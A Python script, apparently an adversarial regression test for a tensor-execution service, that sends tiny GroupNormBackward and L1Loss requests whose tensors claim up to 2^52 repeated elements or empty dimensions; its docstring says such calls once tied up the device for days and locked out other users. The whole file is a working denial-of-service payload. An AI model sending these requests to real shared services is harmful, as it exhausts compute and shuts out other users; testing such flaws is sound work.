"""Calls of some 200 bytes whose tensors repeat one element 2^38 to 2^52 times, with nothing to store:
GroupNormBackward whose output_mask asks for no output, the mean of an L1Loss, and tensors that are huge in one
dimension and empty in another.

No deadline. Before: the first such call has the device for days, and admission refuses everybody else ("about 127h").
"""

import wire
from attack import Attack, Target, run

HUGE = 1 << 52


def group_norm_backward(n: int, c: int, hw: int) -> bytes:
    data = [wire.repeated(name, [n, c, hw], raw=0) for name in ("grad_out", "input")]
    statistics = [wire.repeated(name, [n, 1], raw=0) for name in ("mean", "rstd")]
    return wire.execute(
        wire.call("GroupNormBackward", data + statistics, N=n, C=c, HxW=hw, group=1, output_mask=[False, False, False]),
        [wire.floats(1.0)],
    )


REQUESTS = [
    group_norm_backward(HUGE >> 16, 1, 1 << 16),
    group_norm_backward(HUGE >> 4, 1, 16),
    wire.execute(wire.l1_loss([1 << 38], 1), [wire.floats(1.0)]),
    wire.execute(wire.l1_loss([1 << 50], 1), [wire.floats(1.0)]),
    wire.execute(
        wire.call(
            "L1Loss",
            [
                wire.tensor("self", wire.FLOAT32, [1 << 50, 0], raw=0),
                wire.tensor("target", wire.FLOAT32, [1, 0], raw=0),
            ],
            reduction=0,
        ),
        [b""],
    ),
    wire.execute(
        wire.call(
            "GroupNormBackward",
            [wire.tensor(name, wire.FLOAT32, [0], raw=0) for name in ("grad_out", "input")]
            + [wire.repeated(name, [1 << 40, 1], raw=1) for name in ("mean", "rstd")],
            N=1 << 40,
            C=1 << 30,
            HxW=0,
            group=1,
            output_mask=[False, False, False],
        ),
        [b"", wire.floats(1.0)],
    ),
]


def ask(target: Target) -> None:
    connection = target.connect()
    calls = [connection.start("Execute", request) for request in REQUESTS]
    connection.poll_until(lambda: all(call.ended for call in calls), target.seconds + 60)


if __name__ == "__main__":
    run(Attack([ask]))
